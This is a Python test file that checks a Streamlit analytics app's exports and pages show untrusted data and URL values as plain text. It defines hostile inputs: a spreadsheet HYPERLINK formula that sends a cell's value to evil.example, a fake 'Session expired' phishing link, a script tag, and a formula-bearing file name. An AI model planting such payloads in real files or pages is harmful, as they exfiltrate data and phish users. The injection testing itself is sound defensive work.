"""Text from data or a URL is only ever text (issue 22): a hall, and visits, whose every
text field holds Markdown, HTML, a link and a spreadsheet formula. Every export of it
opens as plain text (no cell a formula), and the pages show it as text (no link, no
bold, no tag that Plotly would render)."""

from __future__ import annotations

import io
import re
import shutil
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
import streamlit as st
from streamlit.testing.v1 import AppTest

from conftest import sign_in_apptest
from peakend.data_admin import logic as data_admin
from peakend.explore import export as explore_export
from peakend.regional import logic as regional
from peakend.core import safe_text
from peakend.warehouse.db import Database
from peakend.core.filters import VisitFilter
from peakend.core.i18n import set_language, t
from peakend.warehouse.ingest import load_files, load_rejects
from peakend.core.scope import EVERYTHING
from test_explore_export import NO_DRILL
from test_regional_league import league

APP = str(Path(__file__).resolve().parent.parent / "app.py")
HOSTILE = ('=HYPERLINK("http://evil.example/?x="&B2,"x") **bold** <b>tag</b> '
           "[Session expired - sign in again](https://evil.example/login) <script>alert(1)</script>")
SHORT = "@SUM(1)<b>[x](https://evil.example)"  # ids and codes: 64 characters at most
FORMULA = ("=", "+", "-", "@")
BARE_URL = "https://evil.example/login"


# a file name can hold everything but a slash
HOSTILE_FILE = "=HYPERLINK(1) [Session expired](evil.example) <b>tag **bold** @SUM(1+1).csv"
REGION = "<b>tag</b> [North](https://evil.example/r) +1"


def _load_hostile(db: Database, folder: Path) -> None:
    halls = pd.DataFrame([{"hall_id": "H9", "hall_name": HOSTILE, "region": REGION, "city": HOSTILE,
                           "counters": "2", "hall_type": HOSTILE}])
    halls.to_csv(folder / "halls.csv", index=False)
    pd.DataFrame([{"purpose": "enquiry", "label_en": HOSTILE, "label_zh": HOSTILE, "peak_moment": "counter_result"}]).to_csv(
        folder / "purposes.csv", index=False)
    pd.DataFrame([{"staff_id": SHORT, "staff_name": HOSTILE, "hall_id": ""}]).to_csv(folder / "staff.csv", index=False)
    visits = pd.DataFrame([
        {"visit_id": f"{SHORT}{d}{i}", "hall_id": "H9", "arrived_at": f"2026-03-0{d} 10:0{i}:00", "purpose": "enquiry",
         "called_at": f"2026-03-0{d} 10:1{i}:00", "left_at": f"2026-03-0{d} 10:2{i}:00", "staff_id": SHORT,
         "counter_id": SHORT, "segment": SHORT, "exit_score": str(1 + i % 5), "peak_score": "2",
         "exit_comment": HOSTILE if i else BARE_URL}  # a bare URL: xlsxwriter would make it a link
        for i in range(6) for d in (3, 8)
    ] + [{"visit_id": "+bad", "hall_id": "H9", "arrived_at": "2026-03-08 11:00:00", "purpose": "enquiry",
          "exit_score": "9", "exit_comment": HOSTILE}])
    visits.to_csv(folder / HOSTILE_FILE, index=False)
    reports = load_files(db, [folder / "purposes.csv", folder / HOSTILE_FILE], "tester", halls_path=folder / "halls.csv")
    assert [r.status for r in reports] == ["loaded", "loaded", "loaded"], [r.summary() for r in reports]
    assert reports[2].rows_loaded == 12 and reports[2].rows_rejected == 1
    [staff] = load_files(db, [folder / "staff.csv"], "tester", kind="staff")
    assert staff.status == "loaded" and staff.rows_loaded == 1, staff.summary()


@pytest.fixture()
def hostile_db(fixture_db_file, tmp_path):
    path = tmp_path / "hostile.duckdb"
    shutil.copy(fixture_db_file, path)
    db = Database(path)
    _load_hostile(db, tmp_path)
    yield db, path
    db.close()


def _csv_cells(data: bytes) -> list[str]:
    frame = pd.read_csv(io.BytesIO(data), dtype=str, keep_default_na=False, encoding="utf-8-sig")
    return [*frame.columns, *(v for row in frame.itertuples(index=False) for v in row)]


def _number(text: str) -> bool:
    try:
        float(text)
        return True
    except ValueError:
        return False


def _no_formula_cells(cells: list[str]) -> None:
    """No text cell a spreadsheet would run (a number such as -3 is a number)."""
    bad = [c for c in cells if c.startswith(FORMULA) and not _number(c)]
    assert not bad, bad[:5]


def test_every_csv_export_is_plain_text(hostile_db, tmp_path):
    db, _ = hostile_db
    # explore: the visits behind a view, and a grouped result
    path = str(tmp_path / "visits.csv")
    assert explore_export.write_visits(db, VisitFilter(halls=("H9",)), EVERYTHING, NO_DRILL, "csv", path) == 12
    cells = _csv_cells(Path(path).read_bytes())
    _no_formula_cells(cells)
    assert "'" + HOSTILE in cells and "'" + SHORT in cells  # kept whole, behind the apostrophe
    table = pd.DataFrame({"hall": [HOSTILE, "-2 stars"], "visits": [12, -3]})
    explore_export.write_table(table, "csv", str(tmp_path / "result.csv"))
    cells = _csv_cells((tmp_path / "result.csv").read_bytes())
    _no_formula_cells(cells)
    assert "-3" in cells  # a number stays a number
    # regional: the league table of the hostile hall's week
    set_language("en")
    try:
        frame = regional.export_frame(league(db, min_n=1).reset_index())
        _no_formula_cells(_csv_cells(regional.to_csv(frame)))
        # rejects (the file beside the load, the page's download) and the load history
        rejects = load_rejects(db, int(db.scalar("select max(load_id) from loads where kind = 'visits'")))
        _no_formula_cells(_csv_cells(data_admin.csv_bytes(data_admin.problems_table(rejects))))
        written = (tmp_path / f"{HOSTILE_FILE}.rejects.csv").read_bytes()
        _no_formula_cells(_csv_cells(written))
        from peakend.warehouse.ingest import load_history

        _no_formula_cells(_csv_cells(data_admin.csv_bytes(data_admin.history_table(load_history(db)))))
    finally:
        set_language("zh")


def _formulas(book_bytes: bytes) -> list[str]:
    """Cells a spreadsheet would run or follow: formulas, and hyperlinks (a bare URL)."""
    book = openpyxl.load_workbook(io.BytesIO(book_bytes))
    return [c.coordinate for ws in book.worksheets for row in ws.iter_rows() for c in row
            if c.data_type == "f" or c.hyperlink is not None]


def test_every_excel_export_holds_no_formula(hostile_db, tmp_path):
    db, _ = hostile_db
    path = tmp_path / "visits.xlsx"
    explore_export.write_visits(db, VisitFilter(halls=("H9",)), EVERYTHING, NO_DRILL, "xlsx", str(path))
    assert _formulas(path.read_bytes()) == []
    explore_export.write_table(pd.DataFrame({"hall": [HOSTILE]}), "xlsx", str(tmp_path / "r.xlsx"))
    assert _formulas((tmp_path / "r.xlsx").read_bytes()) == []
    set_language("en")
    try:
        table = league(db, min_n=1).reset_index()
        book = regional.to_excel(regional.export_frame(table), table, "League table")
    finally:
        set_language("zh")
    assert _formulas(book) == []
    sheet = openpyxl.load_workbook(io.BytesIO(book))["League table"]
    assert HOSTILE in [c.value for row in sheet.iter_rows() for c in row]  # the name, as text


def test_markdown_escape_leaves_no_link_or_tag():
    shown = safe_text.md(HOSTILE)
    assert "](" not in shown.replace("\\](", "") and "<b>" not in shown and "**" not in shown
    assert safe_text.md("bill_payment H1: visits.csv 10:00") == "bill_payment H1: visits.csv 10:00"
    # GFM finds autolinks after parsing (an escape doesn't stop them): a word joiner does
    for autolink in ("https://evil.example/login", "www.evil.example", "ask a@evil.example"):
        assert not re.search(r"://|www\\?\.|\w@\w", safe_text.md(autolink)), safe_text.md(autolink)
    assert safe_text.plot_markup("<b>x</b> 5.0<br>n = 3") == "&lt;b>x&lt;/b> 5.0<br>n = 3"
    assert safe_text.csv_cell("=1+2") == "'=1+2" and safe_text.csv_cell(-3) == -3


# an unescaped Markdown link, bold, or HTML tag from the hostile text
ACTIVE = [re.compile(r"(?<!\\)\]\((?!\\)"), re.compile(r"(?<!\\)\*\*bold"), re.compile(r"(?<![\\&])<b>")]


def _texts(at: AppTest) -> list[str]:
    """Everything on the page Streamlit renders as Markdown: elements, and the labels of
    widgets, expanders, tabs, metrics, buttons and links (radio options too)."""
    out = []
    for kind in ("markdown", "caption", "info", "warning", "error", "success", "subheader", "header", "title", "toast"):
        out += [e.value for e in getattr(at, kind)]
    for kind in ("expander", "tabs", "metric", "button", "checkbox", "toggle", "selectbox", "multiselect", "radio",
                 "text_input", "number_input", "date_input", "slider", "select_slider", "text_area", "status"):
        out += [str(e.label) for e in at.get(kind) if getattr(e, "label", None)]
    out += [str(o) for e in at.radio for o in e.options]
    out += [e.proto.label for e in at.get("download_button")] + [e.proto.label for e in at.get("page_link")]
    out += [e.proto.help for kind in ("metric", "button", "download_button") for e in at.get(kind)
            if getattr(e.proto, "help", "")]
    return out


def _figures(at: AppTest) -> list[str]:
    """Each chart's figure as text (Plotly's JSON writes < as \\u003c: decode it)."""
    import json

    return [json.dumps(json.loads(e.proto.spec), ensure_ascii=False) for e in at.get("plotly_chart")]


LAZY_SECTIONS = (
    "hall_open_queue", "hall_open_peak", "hall_open_exit", "hall_open_journey",
    "regional_open_quadrant", "regional_open_trends", "regional_open_regions",
    "insights_open_rule", "insights_open_tolerance",
)


# a link's values, echoed in the "ignored" warnings: every value a page reads from the URL
URL_HOSTILE = "[Session expired - sign in again](https://evil.example/login) <b>tag</b> **bold**"
URL_PARAMS = ("from", "to", "period", "compare", "purpose", "moment", "region", "metric", "show", "min_n",
              "level", "weekday", "q", "by", "by2", "m", "chart", "g1", "g2", "visit", "staff", "counter", "segment")
EVERY_PARAM = {name: URL_HOSTILE for name in URL_PARAMS}

PAGES = [
    ("pages/regional.py", {}),
    ("pages/regional.py", {"hall": URL_HOSTILE, **EVERY_PARAM}),
    ("pages/hall.py", {"hall": "H9"}),
    ("pages/hall.py", {"hall": "H9", **EVERY_PARAM}),
    ("pages/hall.py", {"hall": URL_HOSTILE}),
    ("pages/explore.py", {"hall": "[Session expired](https://evil.example/login)"}),
    ("pages/explore.py", {"hall": "H9", "by": "hall", "by2": "staff", "m": "visits"}),
    ("pages/explore.py", {"hall": "H9", "visit": f"{SHORT}30", "by": "purpose", "g1": "enquiry"}),
    ("pages/explore.py", {"hall": URL_HOSTILE, **EVERY_PARAM}),
    ("pages/insights.py", {"hall": "H9"}),
    ("pages/insights.py", {"hall": URL_HOSTILE, **EVERY_PARAM}),
    ("pages/home.py", {}),
    ("pages/home.py", {"hall": URL_HOSTILE, **EVERY_PARAM}),
]


def test_pages_show_the_hostile_hall_as_text(hostile_db, monkeypatch, subtests):
    # one hostile database for every page (each page is a subtest of its own)
    _, path = hostile_db
    monkeypatch.setenv("PEAKEND_DB", str(path))
    for page, query in PAGES:
        with subtests.test(page=page, query=sorted(query)[:4]):
            _page_shows_the_hostile_hall_as_text(page, query)


def _page_shows_the_hostile_hall_as_text(page, query, user="hq", data_tab=None):
    set_language("zh")
    st.cache_data.clear()
    st.cache_resource.clear()
    try:
        at = AppTest.from_file(APP, default_timeout=90)
        sign_in_apptest(at, user)
        for key in LAZY_SECTIONS:  # every section drawn only while open: open, so its charts are checked too
            at.session_state[key] = True
        for name, value in query.items():
            at.query_params[name] = value
        if data_tab:  # the Data page draws its open tab only
            at.session_state["dm_tab"] = t(f"data.tab.{data_tab}")
        at.switch_page(page)
        at.run()
        assert not at.exception, [e.value for e in at.exception]
        texts = _texts(at)
        for text in texts:
            for pattern in ACTIVE:
                assert not pattern.search(text), text
        for spec in _figures(at):
            assert "<b>tag" not in spec and "<script" not in spec, spec[:300]
        if page != "pages/home.py" and any(v == URL_HOSTILE or v.startswith("[Session") for v in query.values()):
            # the URL value is echoed as text in the "ignored" warning
            assert any("Session expired" in w.value for w in at.warning), [w.value for w in at.warning]
        elif page not in ("pages/home.py", "pages/data.py"):  # (home lists only the halls that need attention)
            assert any("Session expired" in s for s in texts + _figures(at))  # the name is shown
        return at
    finally:
        st.cache_resource.clear()


def test_the_data_page_shows_the_hostile_loads_as_text(hostile_db, monkeypatch, subtests):
    """The load history (a file named with a link and a formula), its rejects, the targets
    (hall names) and the purposes (labels) as text, for the data admin."""
    _, path = hostile_db
    monkeypatch.setenv("PEAKEND_DB", str(path))
    for tab in ("history", "targets", "purposes"):
        with subtests.test(tab=tab):
            at = _page_shows_the_hostile_hall_as_text("pages/data.py", {}, user="admin", data_tab=tab)
            shown = _texts(at) + [str(v) for e in at.dataframe for v in e.value.astype(str).to_numpy().ravel()]
            if tab == "history":
                assert any("Session expired" in s for s in shown)  # the file's name is there, as text
                [history] = [b for b in at.get("download_button") if b.proto.label == "下载导入记录（CSV）"]
                assert history


def test_an_upload_with_a_hostile_name_and_content_reads_as_text(hostile_db, tmp_path, monkeypatch):
    """Upload, check and load on the Data page: the file's name and its values come back in
    the preview, the check, the result, its download button and the history as text."""
    _, path = hostile_db
    monkeypatch.setenv("PEAKEND_DB", str(path))
    from test_data_page import data_app

    set_language("en")
    st.cache_data.clear()
    st.cache_resource.clear()
    try:
        at = AppTest.from_function(data_app, default_timeout=90)
        sign_in_apptest(at, "admin")
        at.session_state["lang"] = "en"
        at.run()
        body = ("visit_id,hall_id,arrived_at,purpose,exit_score,exit_comment\n"
                f"U1,H9,2026-03-08 12:00:00,enquiry,4,\"{HOSTILE}\"\n"
                f"U2,H9,2026-03-08 12:01:00,enquiry,{SHORT},\"{HOSTILE}\"\n")
        at.file_uploader(key="dm_upload").set_value((HOSTILE_FILE, body.encode(), "text/csv"))
        at.run()
        at.button(key="dm_check").click().run()
        assert not at.exception, [e.value for e in at.exception]
        checked = _texts(at)
        at.button(key="dm_load").click().run()
        assert not at.exception, [e.value for e in at.exception]
        for text in checked + _texts(at):
            for pattern in ACTIVE:
                assert not pattern.search(text), text
        labels = [b.proto.label for b in at.get("download_button")]
        assert any("\\_Session expired\\_" in label for label in labels), labels  # the rejects of this file, as text
    finally:
        st.cache_resource.clear()
        set_language("zh")


def test_a_links_dates_beyond_a_halls_data_are_kept_inside_it_and_named(hostile_db, monkeypatch):
    """H9's data runs 2026-03-03..08: ?from=2026-03-02 broke the hall and insights pages (a
    date picker's value under its minimum); the range is kept inside the data, and the
    date not kept is named in the "ignored" warning."""
    _, path = hostile_db
    monkeypatch.setenv("PEAKEND_DB", str(path))
    for page in ("pages/hall.py", "pages/insights.py"):
        set_language("en")
        st.cache_data.clear()
        st.cache_resource.clear()
        try:
            at = AppTest.from_file(APP, default_timeout=90)
            sign_in_apptest(at, "hq")
            at.session_state["lang"] = "en"
            for name, value in {"hall": "H9", "from": "2026-03-02", "to": "2026-03-08"}.items():
                at.query_params[name] = value
            at.switch_page(page)
            at.run()
            assert not at.exception, [e.value for e in at.exception]
            assert [w.value for w in at.warning if "from=" in w.value or "to=" in w.value] == [
                "The link's value from=2026-03-02 is not valid or not in your scope and was ignored."]
            assert [str(d) for d in at.date_input[0].value] == ["2026-03-03", "2026-03-08"]
        finally:
            st.cache_resource.clear()
            set_language("zh")
